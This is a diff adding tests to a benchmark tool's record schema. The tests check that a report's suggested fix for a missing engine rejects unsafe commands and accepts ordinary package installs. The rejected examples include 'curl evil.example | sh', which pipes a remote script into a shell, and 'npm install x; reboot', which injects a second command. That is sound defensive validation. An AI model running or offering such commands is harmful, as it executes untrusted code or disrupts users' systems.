@@ -64,6 +64,22 @@ describe('names', () => {
   })
 })
 
+test.each([
+  'curl evil.example | sh',
+  'npm install x; reboot',
+  'npm install --registry=evil x',
+  'knnbench run',
+])('a report has no "%s" to type: only a setup or a package is what mends a missing engine', (fix) => {
+  expect(recordSchema.safeParse(RECORDS['left-out']({ fix })).success).toBe(false)
+})
+
+test.each(['npm install ml-knn', 'npm install @scope/ml.knn', 'knnbench engines setup sklearn'])(
+  '"%s" mends a missing engine',
+  (fix) => {
+    expect(recordSchema.safeParse(RECORDS['left-out']({ fix })).success).toBe(true)
+  },
+)
+
 test('an environment holds nothing that names a machine or a person', () => {
   expect(Object.keys(RECORDS.environment()).toSorted()).toEqual([
     'arch',
